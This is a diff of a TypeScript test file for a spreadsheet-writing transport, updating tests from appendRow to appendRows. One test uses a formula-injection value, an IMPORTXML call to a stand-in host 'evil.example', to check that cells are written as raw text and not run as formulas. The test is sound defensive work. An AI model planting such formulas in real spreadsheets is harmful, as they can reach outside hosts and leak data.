@@ -15,20 +15,20 @@ const open = async (shared: 'writer' | 'reader') => {
 
 test('a row is added under the table, and nothing in it becomes a formula', async () => {
   const { sheet, transport, tab } = await open('writer');
-  await transport.appendRow(tab, ['2', '=IMPORTXML("http://evil.example")'], createDeadline());
+  await transport.appendRows(tab, 2, [['2', '=IMPORTXML("http://evil.example")']], createDeadline());
   expect(sheet.tabs[0]!.rows).toEqual([['Ticket', 'Text'], ['1', 'a'], ['2', '=IMPORTXML("http://evil.example")']]);
   expect(new URL(fake.calls.at(-1)!.url).searchParams.get('valueInputOption')).toBe('RAW');
 });
 
 test('a sheet shared for reading only says so', async () => {
   const { transport, tab } = await open('reader');
-  await expect(transport.appendRow(tab, ['2'], createDeadline())).rejects.toThrow('The spreadsheet “Corrections” is shared for reading only. Share it with bot@x.example as Editor, so that rows can be added.');
+  await expect(transport.appendRows(tab, 2, [['2']], createDeadline())).rejects.toThrow('The spreadsheet “Corrections” is shared for reading only. Share it with bot@x.example as Editor, so that rows can be added.');
 });
 
 test('a row whose fate is unknown is not sent again', async () => {
   const { transport, tab } = await open('writer');
   fake.failNext('sheets', 'reset', 5);
-  await expect(transport.appendRow(tab, ['2'], createDeadline())).rejects.toMatchObject({ problem: 'unreachable' });
+  await expect(transport.appendRows(tab, 2, [['2']], createDeadline())).rejects.toMatchObject({ problem: 'unreachable' });
   expect(fake.faults[0]?.times).toBe(4);
 });
 
